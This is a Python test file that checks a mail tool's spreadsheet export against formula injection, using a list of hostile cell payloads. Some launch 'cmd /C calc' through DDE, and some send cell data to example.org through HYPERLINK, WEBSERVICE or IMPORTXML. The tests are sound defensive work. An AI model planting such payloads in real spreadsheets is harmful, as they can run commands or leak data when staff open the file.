"""Tables that staff open in a spreadsheet: nothing in them is ever carried out."""

import csv
import io
import shutil
import subprocess
import zipfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from mailflow.sheets.writing import is_dangerous, to_csv, to_xlsx

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"成績")',
    '=WEBSERVICE("http://example.org/"&B2)',
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@示範",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(1)",
    '="0912345678"',
    "{=1+1}\n=2",
    "=IMPORTXML(\"http://example.org\",\"//a\")",
    "%0A=1",
]  # fmt: skip
KEPT = ["0912345678", "004", "95821140000017", "112E40012", "1.10", "2025-09-10", "TRUE"]


def xlsx_cells(data: bytes) -> list[list[tuple[str, object]]]:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    return [[(cell.data_type, cell.value) for cell in row] for row in sheet.iter_rows()]


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_there_are_thirty_payloads():
    assert len(PAYLOADS) >= 30


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_payload_is_a_formula(payload: str):
    (_, (cell, money)) = xlsx_cells(to_xlsx("名單", ["a", "b"], [[payload, 600]]))
    assert cell[0] == "s"
    assert money == ("n", 600)
    (_, (text, number)) = csv_cells(to_csv(["a", "b"], [[payload, 600]]))
    assert text in (payload, f"'{payload}")
    assert not is_dangerous(text) or text.startswith("'")
    assert number == "600"


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_as_a_heading_is_text_as_well(payload: str):
    assert xlsx_cells(to_xlsx(payload, [payload], []))[0][0][0] == "s"


def test_the_file_itself_holds_no_formula():
    data = to_xlsx("名單", ["a"], [[payload] for payload in PAYLOADS])
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<f " not in sheet


@pytest.mark.parametrize("text", KEPT)
def test_zeros_and_long_numbers_are_kept_as_they_are_written(text: str):
    assert xlsx_cells(to_xlsx("名單", ["a"], [[text]]))[1] == [("s", text)]
    assert csv_cells(to_csv(["a"], [[text]]))[1] == [text]


def test_days_and_gaps():
    told = xlsx_cells(to_xlsx("名單", ["a", "b"], [[date(2025, 9, 17), None]]))[1]
    assert told[0] == ("s", "2025-09-17")
    assert told[1][1] in (None, "")
    assert csv_cells(to_csv(["a", "b"], [[date(2025, 9, 17), None]]))[1] == ["2025-09-17", ""]


def test_excel_knows_the_csv_for_utf8():
    data = to_csv(["姓名"], [["王小明"]])
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == '"姓名"\r\n"王小明"\r\n'


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
def test_any_text_stays_a_text(text: str):
    """Whatever somebody calls themselves: no formula, and nothing lost that can be shown."""
    cell = xlsx_cells(to_xlsx("名單", ["a"], [[text, "."]]))[1][0]
    assert cell[0] in ("s", "inlineStr", "n")
    assert cell[0] != "n" or cell[1] is None
    if text.isprintable():
        assert (cell[1] or "") == text
        (read, _) = csv_cells(to_csv(["a"], [[text, "."]]))[1]
        assert read in (text, f"'{text}")
        assert read.startswith("'") or not is_dangerous(read)


@pytest.mark.skipif(
    shutil.which("soffice") is None, reason="NOT TRIED IN LIBREOFFICE: it is not installed"
)
def test_libreoffice_finds_no_formula_either(tmp_path: Path):
    source = tmp_path / "roster.xlsx"
    source.write_bytes(to_xlsx("名單", ["a"], [[payload] for payload in PAYLOADS]))
    subprocess.run(
        ["soffice", "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(source)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    assert "table:formula" not in (tmp_path / "roster.fods").read_text(encoding="utf-8")
